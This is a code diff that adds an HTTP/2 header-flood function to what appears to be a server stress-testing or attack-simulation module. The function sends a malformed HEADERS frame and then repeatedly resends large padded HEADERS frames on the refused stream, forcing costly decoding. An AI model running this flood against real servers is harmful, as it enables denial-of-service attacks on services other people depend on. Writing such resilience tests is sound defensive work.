@@ -466,3 +466,18 @@ export async function manyStreams(
   for (const connection of connections) connection.close();
   return report;
 }
+
+/**
+ * Header blocks the server must decode only to ignore them: a request it
+ * refused (malformed), then its HEADERS again and again on that stream.
+ */
+export function ignoredHeadersFlood(open: OpenConnection, seconds: number): Promise<AttackReport> {
+  const refused = encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, 1, MALFORMED_BLOCK);
+  const again = encodeFrame(
+    FrameType.HEADERS,
+    Flag.END_HEADERS | Flag.END_STREAM,
+    1,
+    new HeaderEncoder().encode([...PUBLISH_FIELDS, ["padding", "x".repeat(8_000)]]),
+  );
+  return repeatFrames(open, seconds, again, refused);
+}
